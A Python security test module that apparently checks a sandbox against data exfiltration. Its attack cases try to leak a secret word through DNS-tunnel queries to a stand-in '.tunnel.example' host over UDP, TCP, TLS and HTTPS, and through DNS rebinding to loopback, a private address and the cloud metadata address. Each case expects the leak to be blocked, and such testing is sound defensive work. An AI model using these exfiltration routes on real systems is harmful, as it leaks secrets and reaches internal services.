"""Rows 50 to 52: names carry nothing out, and an answer opens no place that nobody named."""
import functools

from acts.names import query_for
from cast import act, attack, effect
from harness import command
from leak import BOTH, SENDER, WORD, learn
from machine import GRANTED, OTHER4, WEATHER4, sinks
from resolver import Resolver
from servers import Sink

DNS, TLS, HTTPS = 53, 853, 443
TUNNEL = f"{WORD.replace(' ', '-')}.tunnel.example"
METADATA, PRIVATE = "169.254.169.254", "10.0.0.5"


@functools.cache
def _resolver():
    resolver = Resolver()
    resolver.start()
    return resolver


@functools.cache
def _sink(port):
    """DNS: on every address but the resolver's own, which is bound more exactly."""
    _resolver()
    return Sink(port)


def _asked(cast, name, port):
    sink = _sink(port)
    sink.forget()
    query = query_for(TUNNEL, edns=False)
    if name == "network.tcp":
        query = len(query).to_bytes(2) + query
    act(cast.start(SENDER), name, OTHER4, port, query.decode("latin-1"))
    effect(sink.got("tunnel"), "nothing was asked")


@attack
def another_resolver(cast):
    _asked(cast, "network.udp_sendto", DNS)


@attack
def another_resolver_by_stream(cast):
    _asked(cast, "network.tcp", DNS)


@attack
def another_resolver_over_tls(cast):
    _asked(cast, "network.tcp", TLS)


@attack
def name_asked_after_the_taint(cast):
    """The resolver of the machine, which everybody may ask."""
    resolver = _resolver()
    actor = cast.start(BOTH)
    learn(actor)
    resolver.asked.clear()
    act(actor, "network.udp_connected", "127.0.0.1", DNS, query_for(TUNNEL, edns=False).decode("latin-1"))
    effect(resolver.was_asked(TUNNEL), f"it was asked {resolver.asked}")


@attack
def resolver_over_https(cast):
    _asked(cast, "network.tcp", HTTPS)


@attack
def other_service_of_a_granted_address(cast):
    """Many names share an address: the port that was not named stays closed."""
    sink = _sink(HTTPS)
    sink.forget()
    act(cast.start(SENDER), "network.tcp", WEATHER4, HTTPS, WORD)
    effect(sink.got(WORD), "nothing arrived")


def _rebound(cast, name, address):
    """The name was harmless; its answer is not."""
    _resolver().addresses[name] = address
    if address != "127.0.0.1":
        command("ip", "address", "add", f"{address}/32", "dev", "dummy0")
        cast.stage.defer(command, "ip", "address", "delete", f"{address}/32", "dev", "dummy0")
    actor = cast.start(f"{SENDER}. Then connect to {name} port {GRANTED}")
    sinks[GRANTED].forget()
    act(actor, "network.tcp", address, GRANTED, WORD)
    effect(sinks[GRANTED].got(WORD), "nothing arrived")


@attack
def name_that_answers_loopback(cast):
    _rebound(cast, "loopback.rebind.com", "127.0.0.1")


@attack
def name_that_answers_metadata(cast):
    _rebound(cast, "metadata.rebind.com", METADATA)


@attack
def name_that_answers_a_private_address(cast):
    _rebound(cast, "private.rebind.com", PRIVATE)
